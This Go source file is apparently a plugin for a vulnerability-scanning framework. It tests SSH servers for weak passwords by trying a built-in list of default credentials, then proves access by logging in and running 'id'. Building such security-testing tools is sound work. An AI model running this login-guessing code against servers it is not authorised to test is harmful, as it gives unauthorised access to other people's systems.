package plugins

import (
	"context"
	"errors"
	"fmt"
	"net"
	"strings"
	"time"

	"golang.org/x/crypto/ssh"

	"pocsuite/internal/model"
	"pocsuite/internal/poc"
)

// Credential 一组用户名密码
type Credential struct {
	User string `json:"user"`
	Pass string `json:"pass"`
}

func (c Credential) String() string {
	return c.User + ":" + c.Pass
}

// DefaultCredentials 常见的默认/弱口令
var DefaultCredentials = []Credential{
	{"root", "root"},
	{"admin", "admin"},
	{"root", "toor"},
	{"user", "user"},
	{"admin", "password"},
	{"root", "123456"},
	{"ubuntu", "ubuntu"},
	{"pi", "raspberry"},
	{"vagrant", "vagrant"},
}

const sshProofCommand = "id"

// SSHWeakPassword SSH 弱口令检测
type SSHWeakPassword struct {
	info        model.VulnInfo
	Credentials []Credential
}

func NewSSHWeakPassword() *SSHWeakPassword {
	return &SSHWeakPassword{
		info: model.VulnInfo{
			CWEID:            "CWE-521",
			Name:             "SSH Weak Password",
			Description:      "SSH服务使用默认或弱口令，攻击者可直接登录获取系统权限。",
			Severity:         model.SeverityCritical,
			AffectedVersions: []string{"All"},
			References:       []string{"https://cwe.mitre.org/data/definitions/521.html"},
			Product:          "ssh",
		},
		Credentials: DefaultCredentials,
	}
}

func (p *SSHWeakPassword) Name() string         { return "ssh-weak-password" }
func (p *SSHWeakPassword) Description() string  { return p.info.Description }
func (p *SSHWeakPassword) Info() model.VulnInfo { return p.info }

func (p *SSHWeakPassword) dial(ctx context.Context, addr string, cred Credential, cfg model.PocConfig) (*ssh.Client, error) {
	timeout := timeoutOf(cfg)
	dialCtx, cancel := context.WithTimeout(ctx, timeout)
	defer cancel()

	var d net.Dialer
	conn, err := d.DialContext(dialCtx, "tcp", addr)
	if err != nil {
		return nil, poc.RequestError("连接SSH服务失败", err)
	}

	clientCfg := &ssh.ClientConfig{
		User:            cred.User,
		Auth:            []ssh.AuthMethod{ssh.Password(cred.Pass)},
		HostKeyCallback: ssh.InsecureIgnoreHostKey(),
		Timeout:         timeout,
	}
	// 握手阶段的超时
	conn.SetDeadline(time.Now().Add(timeout))
	c, chans, reqs, err := ssh.NewClientConn(conn, addr, clientCfg)
	if err != nil {
		conn.Close()
		return nil, err
	}
	conn.SetDeadline(time.Time{})
	return ssh.NewClient(c, chans, reqs), nil
}

// findCredential 依次尝试口令，返回第一个能登录的客户端
func (p *SSHWeakPassword) findCredential(ctx context.Context, cfg model.PocConfig) (*ssh.Client, Credential, error) {
	addr, err := hostPort(cfg.Target, 22)
	if err != nil {
		return nil, Credential{}, err
	}

	for _, cred := range p.Credentials {
		if err := ctx.Err(); err != nil {
			return nil, Credential{}, poc.RequestError("检测被取消", err)
		}
		client, err := p.dial(ctx, addr, cred, cfg)
		if err == nil {
			return client, cred, nil
		}
		var pocErr *poc.Error
		if errors.As(err, &pocErr) {
			return nil, Credential{}, err
		}
		if !isSSHAuthError(err) {
			return nil, Credential{}, poc.RequestError("SSH握手失败", err)
		}
	}
	return nil, Credential{}, nil
}

func (p *SSHWeakPassword) Verify(ctx context.Context, cfg model.PocConfig) (model.PocResult, error) {
	client, cred, err := p.findCredential(ctx, cfg)
	if err != nil {
		return model.PocResult{}, err
	}
	if client == nil {
		return poc.NewResult(p, cfg, false, fmt.Sprintf("尝试 %d 组口令均登录失败", len(p.Credentials))), nil
	}
	client.Close()
	return poc.NewResult(p, cfg, true, "存在弱口令 "+cred.String()), nil
}

// Exploit 使用弱口令登录并执行 id 命令
func (p *SSHWeakPassword) Exploit(ctx context.Context, cfg model.PocConfig) (model.PocResult, error) {
	if err := poc.RequireVerified(ctx, p, cfg); err != nil {
		return model.PocResult{}, err
	}

	client, cred, err := p.findCredential(ctx, cfg)
	if err != nil {
		return model.PocResult{}, err
	}
	if client == nil {
		return model.PocResult{}, poc.ExecutionError("口令已失效")
	}
	defer client.Close()

	session, err := client.NewSession()
	if err != nil {
		return model.PocResult{}, poc.ExecutionError("创建会话失败: %v", err)
	}
	defer session.Close()

	out, err := session.CombinedOutput(sshProofCommand)
	if err != nil {
		return model.PocResult{}, poc.ExecutionError("执行命令失败: %v", err)
	}
	return poc.NewResult(p, cfg, true, fmt.Sprintf("%s 执行 %s: %s", cred, sshProofCommand, strings.TrimSpace(string(out)))), nil
}

func isSSHAuthError(err error) bool {
	return strings.Contains(err.Error(), "unable to authenticate")
}
